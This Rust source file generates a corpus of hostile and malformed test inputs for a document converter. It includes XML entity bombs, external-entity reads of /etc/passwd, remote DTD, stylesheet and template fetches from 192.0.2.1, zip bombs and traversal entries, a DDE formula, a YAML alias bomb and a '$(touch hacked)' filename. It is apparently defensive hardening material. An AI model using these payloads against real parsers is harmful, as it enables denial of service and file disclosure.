//! Files that lie: about their encoding, their kind, their size, their structure.

use super::package::{W, document, package, raw_package, zip};

fn nested(open: &str, inner: &str, close: &str, n: usize) -> String {
    format!("{}{inner}{}", open.repeat(n), close.repeat(n))
}

fn akn(body: &str) -> Vec<u8> {
    format!("<akomaNtoso xmlns=\"http://docs.oasis-open.org/legaldocml/ns/akn/3.0\"><doc name=\"report\"><meta/><mainBody>{body}</mainBody></doc></akomaNtoso>").into_bytes()
}

fn noise(n: usize, seed: u64) -> Vec<u8> {
    let mut x = seed;
    (0..n)
        .map(|_| {
            x = x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (x >> 33) as u8
        })
        .collect()
}

fn utf16(text: &str, big: bool, mark: bool) -> Vec<u8> {
    let units = mark.then_some(0xfeff).into_iter().chain(text.encode_utf16());
    units.flat_map(|u| if big { u.to_be_bytes() } else { u.to_le_bytes() }).collect()
}

/// A local header with what is asked for, then a central directory that may tell otherwise.
fn zip_by_hand(
    name: &[u8],
    method: u16,
    flags: u16,
    packed: &[u8],
    says: u32,
    copies: usize,
) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend(b"PK\x03\x04\x14\x00");
    out.extend(flags.to_le_bytes());
    out.extend(method.to_le_bytes());
    out.extend([0; 8]);
    out.extend((packed.len() as u32).to_le_bytes());
    out.extend(says.to_le_bytes());
    out.extend((name.len() as u16).to_le_bytes());
    out.extend([0, 0]);
    out.extend(name);
    out.extend(packed);
    let at = out.len() as u32;
    for _ in 0..copies {
        out.extend(b"PK\x01\x02\x14\x00\x14\x00");
        out.extend(flags.to_le_bytes());
        out.extend(method.to_le_bytes());
        out.extend([0; 8]);
        out.extend((packed.len() as u32).to_le_bytes());
        out.extend(says.to_le_bytes());
        out.extend((name.len() as u16).to_le_bytes());
        // no extra field, no comment, one disk, no attributes, the first header
        out.extend([0; 16]);
        out.extend(name);
    }
    let len = out.len() as u32 - at;
    out.extend(b"PK\x05\x06\x00\x00\x00\x00");
    out.extend((copies as u16).to_le_bytes());
    out.extend((copies as u16).to_le_bytes());
    out.extend(len.to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend([0, 0]);
    out
}

/// Names with bytes. Names may say another format than the bytes.
pub fn lies() -> Vec<(String, Vec<u8>)> {
    let mut out: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |name: &str, bytes: Vec<u8>| out.push((name.to_owned(), bytes));
    let text = "United Nations\n\nA/99/204\n\n1. The wells are kept.\n";
    // XML
    let laughs: String = (1..12)
        .map(|i| format!("<!ENTITY l{i} \"{}\">", format!("&l{};", i - 1).repeat(10)))
        .collect();
    add(
        "laughs.xml",
        format!("<!DOCTYPE a [<!ENTITY l0 \"ha\">{laughs}]><akomaNtoso>&l11;</akomaNtoso>")
            .into_bytes(),
    );
    add(
        "quadratic-entity.xml",
        format!(
            "<!DOCTYPE a [<!ENTITY l \"{}\">]><akomaNtoso>{}</akomaNtoso>",
            "x".repeat(50_000),
            "&l;".repeat(50_000)
        )
        .into_bytes(),
    );
    add(
        "external-entity.xml",
        b"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><akomaNtoso>&x;</akomaNtoso>"
            .to_vec(),
    );
    add(
        "external-type.xml",
        b"<!DOCTYPE a SYSTEM \"http://192.0.2.1/a.dtd\"><akomaNtoso/>".to_vec(),
    );
    add(
        "parameter-entity.xml",
        b"<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://192.0.2.1/a\"> %x;]><akomaNtoso/>".to_vec(),
    );
    add(
        "inclusion.xml",
        akn(
            "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
        ),
    );
    add(
        "stylesheet.xml",
        [b"<?xml-stylesheet href=\"http://192.0.2.1/a.xsl\"?>".to_vec(), akn("<p>x</p>")].concat(),
    );
    add("schema-elsewhere.xml", b"<akomaNtoso xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"u http://192.0.2.1/a.xsd\"/>".to_vec());
    for (name, n) in
        [("deep-250.xml", 240), ("deep-1000.xml", 1000), ("deep-million.xml", 1_000_000)]
    {
        add(name, akn(&nested("<section>", "x", "</section>", n)));
    }
    add("deep-inlines.xml", akn(&format!("<p>{}</p>", nested("<i>", "x", "</i>", 240))));
    add("deep-open.xml", akn(&"<section>".repeat(1_000_000)));
    add("deep-quotes.xml", akn(&nested("<quotedStructure>", "x", "</quotedStructure>", 230)));
    add("deep-tables.xml", akn(&nested("<table><tr><td>", "x", "</td></tr></table>", 80)));
    add(
        "deep-notes.xml",
        akn(&format!("<p>{}</p>", nested("<authorialNote><p>", "x", "</p></authorialNote>", 110))),
    );
    add(
        "attributes.xml",
        akn(&format!("<p {}>x</p>", (0..100_000).map(|i| format!("a{i}='' ")).collect::<String>())),
    );
    add("attribute-twice.xml", akn("<p eId='a' eId='b'>x</p>"));
    add("namespace-unbound.xml", akn("<q:p>x</q:p>"));
    add("cut-tag.xml", akn("<p>x</p>")[..60].to_vec());
    add("cut-comment.xml", akn(&format!("<!-- {}", "x".repeat(1 << 20))));
    add("cut-cdata.xml", akn(&format!("<![CDATA[ {}", "x".repeat(1 << 20))));
    add("cut-instruction.xml", akn(&format!("<?x {}", "x".repeat(1 << 20))));
    add("cut-attribute.xml", akn(&format!("<p a=\"{}", "x".repeat(1 << 20))));
    add("name-long.xml", akn(&format!("<{}/>", "x".repeat(1 << 20))));
    add("angles.xml", [b"<akomaNtoso>".to_vec(), b"<".repeat(1 << 20)].concat());
    add("ampersands.xml", akn(&"&".repeat(1 << 20)));
    add("references-huge.xml", akn(&"&#99999999999999999999;&#x110000;&#0;&#xD800;".repeat(1000)));
    add("reference-long.xml", akn(&format!("&#{};", "1".repeat(1 << 20))));
    add("two-roots.xml", [akn("<p>x</p>"), akn("<p>y</p>")].concat());
    add("text-around.xml", [b"before".to_vec(), akn("<p>x</p>"), b"after".to_vec()].concat());
    add(
        "declared-utf16.xml",
        [b"<?xml version='1.0' encoding='UTF-16'?>".to_vec(), akn("<p>x</p>")].concat(),
    );
    add(
        "declared-nothing.xml",
        [b"<?xml version='1.0' encoding='no-such'?>".to_vec(), akn("<p>x</p>")].concat(),
    );
    add(
        "declared-twice.xml",
        [b"<?xml version='1.0'?><?xml version='1.1'?>".to_vec(), akn("<p>x</p>")].concat(),
    );
    add("utf16.xml", utf16(&String::from_utf8_lossy(&akn("<p>x</p>")), false, true));
    add(
        "bad-utf8.xml",
        [akn("<p>x")[..150].to_vec(), vec![0xff, 0xc0, 0xaf, 0xed, 0xa0, 0x80], b"</p>".to_vec()]
            .concat(),
    );
    add("nul.xml", akn("<p>a\u{0}b</p>"));
    add("dates.xml", akn("<p><date date='9999-99-99'>x</date><date date='-1'>y</date></p>"));
    add(
        "spans.xml",
        akn(
            "<table><tr><td colspan='4294967296' rowspan='-1'>x</td><td colspan='65535' rowspan='65535'>y</td></tr></table>",
        ),
    );
    add(
        "links.xml",
        akn(
            "<p><a href='javascript:alert(1)'>x</a><ref href='file:///etc/passwd'>y</ref><ref href='#para_99999999999999999999'>z</ref></p>",
        ),
    );
    add(
        "picture.xml",
        akn(
            "<p><img src='http://192.0.2.1/x.png' alt='x'/><img src='file:///etc/passwd' alt='y'/></p>",
        ),
    );
    add(
        "ids-circular.xml",
        akn(
            "<p eId='a'><noteRef href='#a'/><authorialNote eId='n'><p><noteRef href='#n'/></p></authorialNote></p>",
        ),
    );
    add("html.xml", b"<!DOCTYPE html><html><body>x</body></html>".to_vec());
    add("svg.xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>".to_vec());
    add("empty.xml", Vec::new());
    add("only-declaration.xml", b"<?xml version='1.0'?>".to_vec());
    // JSON
    let tree = |b: &str| {
        format!("{{\"masthead\":\"tree\",\"version\":1,\"document\":{{\"lang\":\"en\",\"kind\":\"report\",\"meta\":{{}},\"body\":[{b}]}}}}").into_bytes()
    };
    add("deep-arrays.json", "[".repeat(1_000_000).into_bytes());
    add("deep-objects.json", "{\"a\":".repeat(300_000).into_bytes());
    add("deep-quotes.json", tree(&nested("{\"type\":\"quote\",\"blocks\":[", "", "]}", 55)));
    add(
        "deep-quotes-too.json",
        tree(&nested("{\"type\":\"quote\",\"blocks\":[", "", "]}", 10_000)),
    );
    add("numbers.json", tree("{\"type\":\"heading\",\"level\":1e400,\"title\":[]}"));
    add(
        "number-long.json",
        tree(&format!("{{\"type\":\"heading\",\"level\":{},\"title\":[]}}", "9".repeat(1 << 20))),
    );
    add("span-outside.json", tree("{\"span\":[4294967294,4294967295],\"type\":\"rule\"}"));
    add("span-backwards.json", tree("{\"span\":[9,1],\"type\":\"rule\"}"));
    add(
        "call-of-nothing.json",
        tree("{\"type\":\"paragraph\",\"text\":[{\"type\":\"note-call\",\"note\":4294967295}]}"),
    );
    add("same-key.json", tree("{\"type\":\"rule\",\"type\":\"quote\",\"blocks\":[]}"));
    add(
        "surrogates.json",
        tree("{\"type\":\"paragraph\",\"text\":[{\"type\":\"text\",\"text\":\"\\ud800\"}]}"),
    );
    add("values.json", tree(&"{\"type\":\"paragraph\",\"num\":{\"text\":\"1.\",\"value\":4294967295,\"style\":\"upper-roman\"},\"text\":[]},".repeat(1000)));
    add(
        "roman.json",
        tree(
            "{\"type\":\"heading\",\"level\":255,\"num\":{\"text\":\"M\",\"value\":4294967295,\"style\":\"upper-roman\"},\"title\":[]},{\"type\":\"paragraph\",\"num\":{\"text\":\"z\",\"value\":4294967295,\"style\":\"lower-alpha\"},\"text\":[]}",
        ),
    );
    add(
        "table-wide.json",
        tree(&format!(
            "{{\"type\":\"table\",\"rows\":[{{\"cells\":[{}]}}]}}",
            vec!["{\"colspan\":65535,\"rowspan\":65535,\"blocks\":[]}"; 2000].join(",")
        )),
    );
    // texts
    for seed in 0..8 {
        add(&format!("noise-{seed}.txt"), noise(200_000, seed));
        add(
            &format!("noise-letters-{seed}.txt"),
            noise(400_000, seed)
                .iter()
                .map(|b| b" \n()abcIVX1.,/A\t-"[usize::from(b & 15)])
                .collect(),
        );
    }
    for (name, big, mark) in [
        ("le", false, true),
        ("be", true, true),
        ("le-bare", false, false),
        ("be-bare", true, false),
    ] {
        add(&format!("utf16-{name}.txt"), utf16(text, big, mark));
    }
    add("utf16-odd.txt", utf16(text, false, true)[..61].to_vec());
    add(
        "utf16-surrogates.txt",
        [0xff, 0xfe].into_iter().chain([0x00, 0xd8].repeat(10_000)).collect(),
    );
    add("utf32.txt", text.chars().flat_map(|c| (c as u32).to_le_bytes()).collect());
    add("utf8-marks.txt", "\u{feff}".repeat(10_000).into_bytes());
    add("utf8-long-forms.txt", [0xf0, 0x80, 0x80, 0xaf].repeat(50_000));
    add("utf8-cut.txt", [text.as_bytes(), &[0xe4, 0xb8]].concat());
    add("gb18030.txt", [0x81, 0x30, 0x81, 0x30].repeat(50_000));
    add("iso-2022.txt", b"\x1b$B!!\x1b(B".repeat(50_000));
    add("nul.txt", vec![0; 1 << 20]);
    add("ones.txt", vec![0xff; 1 << 20]);
    add("nul-between.txt", text.bytes().flat_map(|b| [b, 0, 0]).collect());
    add("nonchars.txt", "\u{ffff}\u{fffe}\u{1ffff}".repeat(50_000).into_bytes());
    add("private.txt", "\u{e000}\u{f8ff}\u{10fffd}".repeat(50_000).into_bytes());
    add("tags.txt", "\u{e0061}\u{e007f}".repeat(50_000).into_bytes());
    add("joiners.txt", "👩\u{200d}".repeat(100_000).into_bytes());
    add("bidi.txt", format!("{}{}", "\u{202e}\u{2066}".repeat(100_000), text).into_bytes());
    add("escapes.txt", "\u{1b}]0;x\u{7}\u{1b}[2J\u{1b}[31m".repeat(10_000).into_bytes());
    add("line-separators.txt", "a\u{2028}b\u{2029}c\u{85}".repeat(50_000).into_bytes());
    add("elf.txt", [b"\x7fELF\x02\x01\x01".to_vec(), noise(10_000, 3)].concat());
    add("png.txt", [b"\x89PNG\r\n\x1a\n".to_vec(), noise(10_000, 4)].concat());
    add("pdf.txt", b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n".to_vec());
    add("rtf.txt", b"{\\rtf1\\ansi hello}".to_vec());
    add("formulas.txt", "=cmd|' /C calc'!A0\n\n@SUM(1)\n\n+1\n\n".repeat(2000).into_bytes());
    add("links.md", b"---\nlang: en\n---\n\n[x](javascript:alert(1)) ![y](file:///etc/passwd) <http://192.0.2.1/>\n\n<script>x</script>\n<iframe src=\"http://192.0.2.1\"></iframe>\n".to_vec());
    add(
        "front-bomb.md",
        b"---\na: &a [x,x]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]\n---\n\ntext\n".to_vec(),
    );
    add("front-include.md", b"---\nlang: en\ntitle: !include /etc/passwd\ninclude: [/etc/passwd, http://192.0.2.1]\n---\n\ntext\n".to_vec());
    add("..%2f..%2fetc%2fpasswd.txt", text.as_bytes().to_vec());
    add("$(touch hacked);`touch hacked`.txt", text.as_bytes().to_vec());
    // packages
    let bare = document("<w:p><w:r><w:t>kept</w:t></w:r></w:p>");
    let deflated_blanks: Vec<u8> = {
        let whole = zip(&[("x", &vec![b' '; 30 << 20])]);
        whole[31..whole.len() - 69].to_vec()
    };
    add(
        "climbing.docx",
        zip(&[
            ("../../../etc/cron.d/x", b"x"),
            ("/etc/passwd", b"x"),
            ("word/document.xml", bare.as_bytes()),
            ("C:\\x\\y.xml", b"x"),
        ]),
    );
    add("says-small.docx", zip_by_hand(b"word/document.xml", 8, 0, &deflated_blanks, 10, 1));
    add(
        "says-huge.docx",
        zip_by_hand(b"word/document.xml", 0, 0, bare.as_bytes(), u32::MAX - 1, 1),
    );
    add(
        "same-name.docx",
        zip_by_hand(b"word/document.xml", 0, 0, bare.as_bytes(), bare.len() as u32, 2),
    );
    add(
        "overlapping.docx",
        zip_by_hand(b"word/document.xml", 8, 0, &deflated_blanks, 30 << 20, 900),
    );
    add("unknown-method.docx", zip_by_hand(b"word/document.xml", 99, 0, b"x", 1, 1));
    add(
        "encrypted.docx",
        zip_by_hand(b"word/document.xml", 0, 1, bare.as_bytes(), bare.len() as u32, 1),
    );
    add("name-not-utf8.docx", zip_by_hand(&[0xff, 0xfe, b'x'], 0, 0x800, b"x", 1, 1));
    add("name-empty.docx", zip_by_hand(b"", 0, 0, b"x", 1, 1));
    add("name-long.docx", zip_by_hand(&vec![b'a'; 60_000], 0, 0, b"x", 1, 1));
    add(
        "deflate-noise.docx",
        zip_by_hand(b"word/document.xml", 8, 0, &noise(100_000, 9), 1 << 20, 1),
    );
    add("end-only.docx", b"PK\x05\x06".iter().copied().chain([0; 18]).collect());
    add(
        "end-lies.docx",
        b"PK\x05\x06\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\0\0".to_vec(),
    );
    add(
        "comment-long.docx",
        [zip(&[("word/document.xml", bare.as_bytes())]), vec![b'x'; 60_000]].concat(),
    );
    add("ends-many.docx", b"PK\x05\x06".repeat(100_000));
    add("headers-many.docx", b"PK\x01\x02".repeat(100_000));
    add(
        "zip-in-zip.docx",
        zip(&[("word/document.xml", &zip(&[("word/document.xml", bare.as_bytes())]))]),
    );
    add(
        "junk-before.docx",
        [noise(50_000, 5), zip(&[("word/document.xml", bare.as_bytes())])].concat(),
    );
    add("text-as.docx", text.as_bytes().to_vec());
    add("xml-as.docx", akn("<p>x</p>"));
    add("docx-as.txt", package("<w:p><w:r><w:t>kept</w:t></w:r></w:p>", &[]));
    add("docx-as.xml", package("<w:p><w:r><w:t>kept</w:t></w:r></w:p>", &[]));
    add("gzip.docx", vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3]);
    add(
        "deep.docx",
        raw_package(
            document(&nested("<w:sdt><w:sdtContent>", "x", "</w:sdtContent></w:sdt>", 100_000))
                .as_bytes(),
            &[],
        ),
    );
    add(
        "deep-tables.docx",
        package(
            &nested(
                "<w:tbl><w:tr><w:tc>",
                "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
                "</w:tc></w:tr></w:tbl>",
                80,
            ),
            &[],
        ),
    );
    add(
        "deep-boxes.docx",
        package(
            &nested(
                "<w:p><w:r><w:pict><w:txbxContent>",
                "<w:p/>",
                "</w:txbxContent></w:pict></w:r></w:p>",
                50,
            ),
            &[],
        ),
    );
    add(
        "note-in-itself.docx",
        package(
            "<w:p><w:r><w:footnoteReference w:id=\"1\"/></w:r></w:p>",
            &[(
                "word/footnotes.xml",
                &format!(
                    "<w:footnotes {W}><w:footnote w:id=\"1\"><w:p><w:r><w:footnoteReference w:id=\"1\"/></w:r></w:p></w:footnote></w:footnotes>"
                ),
            )],
        ),
    );
    add(
        "links.docx",
        package(
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>INCLUDETEXT \"file:///etc/passwd\"</w:instrText></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
            &[],
        ),
    );
    add(
        "template-elsewhere.docx",
        package(
            "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
            &[
                (
                    "word/_rels/settings.xml.rels",
                    "<Relationships><Relationship Id='a' Type='x/attachedTemplate' Target='http://192.0.2.1/t.dotm' TargetMode='External'/></Relationships>",
                ),
                (
                    "word/settings.xml",
                    &format!("<w:settings {W}><w:attachedTemplate r:id='a'/></w:settings>"),
                ),
            ],
        ),
    );
    out
}
